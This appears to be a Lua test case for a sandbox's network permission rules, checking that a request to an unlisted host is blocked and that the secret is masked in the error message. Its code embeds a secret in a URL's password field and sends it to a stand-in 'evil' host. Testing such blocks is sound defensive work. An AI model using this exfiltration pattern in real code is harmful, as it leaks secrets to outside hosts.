-- Sends a secret to another host as the password of its URL.
-- allow: http GET ${good}/*
-- says: GET http://x:\*\*\*@127.*not permitted; to permit it, add this line to `allow`: "http GET http://127.0.0.1
local url = run.evil:gsub("//", "//x:" .. run.secret .. "@", 1)
http.get(url .. "/x")
